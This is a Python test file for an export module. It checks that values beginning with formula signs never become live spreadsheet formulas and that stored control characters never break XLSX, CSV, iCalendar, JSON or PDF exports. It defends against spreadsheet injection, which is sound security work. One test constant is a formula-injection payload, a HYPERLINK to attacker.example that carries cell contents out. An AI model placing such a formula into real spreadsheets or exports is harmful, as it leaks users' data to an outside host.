"""Issue 17, findings 5 and 9: a value that starts with a formula sign never becomes a live formula, and a
stored control character never breaks an export (XLSX, CSV, iCalendar, JSON, the compliance report)."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from core.settings import Settings
from exporters.cells import FORMULA_START, csv_value
from exporters.csv_xlsx import write_csv, write_xlsx
from exporters.ical import write_ical
from exporters.json_export import write_json
from exporters.report import render_pdf, render_xlsx, report_data
from exporters.rows import load_rows
from store.db import Database
from store.repository import ItemFilter, get_document
from tests.helpers.export_seed import TODAY, seed

BASE = "https://nirdesh.example.org"
FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"click") जिलाधिकारी ने निर्देश दिए कि सर्वे पूर्ण हो।'
# Every C0 control but TAB/LF/CR, DEL and a C1 control: what a PATCH or an old upload could have stored.
# (PostgreSQL cannot store NUL, so the NUL cases run on SQLite only.)
CONTROLS = "".join(chr(c) for c in (*range(0x01, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0x85))
_BAD_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _poison(db: Database, *, text: str | None = None, note: str | None = None, assignee: str | None = None) -> int:
    """Seed two meetings and write hostile values straight into the first item (as older data could hold)."""
    ids = seed(db)
    with db.session() as s:
        item = get_document(s, ids["a"]).items[0]  # type: ignore[union-attr]
        if text is not None:
            item.text = item.action = text
        item.note, item.assignee = note, assignee
        item.responsible = [{"name": None, "designation": "@SUM(A1:A9)"}]
    return ids["a"]


def _rows(db: Database) -> list:
    with db.session() as s:
        return load_rows(s, ItemFilter(), today=TODAY, base_url=BASE, sort="id")


def _no_formula_cells(xlsx: bytes) -> list[str]:
    """Every string value of the workbook; fails if any cell is a formula."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), f"a formula cell in {name}"
    wb = load_workbook(io.BytesIO(xlsx))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    return values


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+91 98", "'+91 98"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("जिलाधिकारी = अध्यक्ष", "जिलाधिकारी = अध्यक्ष"),
        ("a\x07b\x00c", "abc"),
        ("=\x00x", "'=x"),
        (7, 7),
    ],
)
def test_csv_value_prefixes_formula_signs_and_drops_controls(raw: object, safe: object) -> None:
    assert csv_value(raw) == safe


def test_csv_export_has_no_field_a_spreadsheet_would_run(db: Database) -> None:
    _poison(db, text=FORMULA, note="-1+1 टिप्पणी", assignee="+SUM(1)")
    table = list(csv.reader(io.StringIO(write_csv(_rows(db)).decode("utf-8-sig"))))
    fields = [f for row in table[1:] for f in row]
    assert not [f for f in fields if f.startswith(FORMULA_START)]
    summary = table[1][0]
    assert summary.startswith("'=HYPERLINK(") and "जिलाधिकारी" in summary  # kept, visibly, as text
    assert "'+SUM(1)" in fields  # the assignee column
    assert any(f.startswith("'@SUM(A1:A9)") for f in fields)  # the responsible column


def test_xlsx_export_writes_formula_signs_as_text(db: Database) -> None:
    _poison(db, text=FORMULA, note="=1+1", assignee="@x")
    rows = _rows(db)
    for per_meeting in (False, True):
        values = _no_formula_cells(write_xlsx(rows, per_meeting=per_meeting))
        assert FORMULA in values and "=1+1" in values and "@x" in values


def test_compliance_report_xlsx_writes_formula_signs_as_text(db: Database) -> None:
    doc_id = _poison(db, text=FORMULA, note="=1+1")
    with db.session() as s:
        data = report_data(get_document(s, doc_id), TODAY)  # type: ignore[arg-type]
    values = _no_formula_cells(render_xlsx(data))
    assert FORMULA in values and "=1+1" in values


def test_a_stored_control_character_breaks_no_export(db: Database) -> None:
    nul = "\x00" if db.engine.dialect.name == "sqlite" else ""
    note = "टिप्पणी\x07" + nul
    doc_id = _poison(db, text="सर्वे" + nul + CONTROLS + "पूर्ण करें।", note=note, assignee="\x1bअधिकारी")
    rows = _rows(db)

    values = _no_formula_cells(write_xlsx(rows))
    assert "सर्वेपूर्ण करें।" in values and "टिप्पणी" in values and "अधिकारी" in values
    assert not [v for v in values if _BAD_XML.search(v)]

    text = write_csv(rows).decode("utf-8-sig")
    assert not _BAD_XML.search(text.replace("\r\n", "\n")) and "\x7f" not in text and "सर्वेपूर्ण करें।" in text

    ics = write_ical(rows, events=True)
    assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", ics)
    summaries = [str(c.get("summary")) for c in Calendar.from_ical(ics).walk("VTODO")]
    assert any(x.startswith("सर्वे") and x.endswith("पूर्ण करें।") for x in summaries)  # \x1c-\x1f split words

    assert json.loads(write_json(rows, ItemFilter()))["items"][0]["note"] == note  # JSON escapes it

    with db.session() as s:
        data = report_data(get_document(s, doc_id), TODAY)  # type: ignore[arg-type]
    values = _no_formula_cells(render_xlsx(data))
    assert "सर्वेपूर्ण करें।" in values
    font = Settings().report_font
    assert render_pdf(data, font).startswith(b"%PDF")
